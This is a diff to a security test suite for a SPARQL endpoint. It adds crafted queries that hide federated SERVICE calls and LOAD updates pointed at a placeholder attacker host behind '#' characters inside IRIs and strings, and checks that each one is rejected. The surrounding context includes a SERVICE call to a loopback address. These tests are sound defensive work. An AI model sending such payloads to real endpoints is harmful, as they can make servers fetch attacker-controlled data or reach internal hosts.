@@ -26,6 +26,10 @@ CRAFTED = [
     ("SERVICE hidden after kg:x\\'", "GET", "/sparql", {"params": {"query": (
         f"SELECT ?a WHERE {{ OPTIONAL {{ ?s kg:x\\' ?o }} SERVICE <{EVIL}> {{ ?a ?b ?c }} "
         "BIND('z' AS ?z) }")}}, 403, "KG305"),
+    ("SERVICE after a '#' inside an IRI on its line", "GET", "/sparql", {"params": {"query":
+        f"SELECT * WHERE {{ ?s <http://x/#a> ?o SERVICE <{EVIL}> {{ ?a ?b ?c }} }}"}}, 403, "KG305"),
+    ("LOAD after a '#' inside a string on its line", "POST", "/sparql/update", {"headers": UPD,
+        "content": f"INSERT DATA {{ <http://a> <http://b> 'x#y' }} ; LOAD <{EVIL}>"}, 403, "KG304"),
     ("SERVICE with a variable endpoint", "GET", "/sparql", {"params": {"query":
         "SELECT * WHERE { BIND(<http://127.0.0.1:9/> AS ?e) SERVICE ?e { ?s ?p ?o } }"}},
      403, "KG305"),
